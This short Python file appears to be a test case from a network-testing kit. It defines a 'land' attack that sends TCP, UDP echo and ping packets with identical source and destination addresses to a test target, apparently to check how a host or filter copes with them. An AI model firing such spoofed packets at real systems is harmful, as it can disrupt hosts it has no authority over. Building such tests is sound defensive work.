# SPDX-License-Identifier: Apache-2.0
"""Source and destination are the same (land): the victim answers itself."""
from kit import *


def attack(pot, out, family):
    for address in (pot.ip(family), out.ip(family)):
        for n in range(30):
            pot.send_packets([tcp(address, 80, address, 80), udp(address, 7, address, 7), ping(address, address, n)])
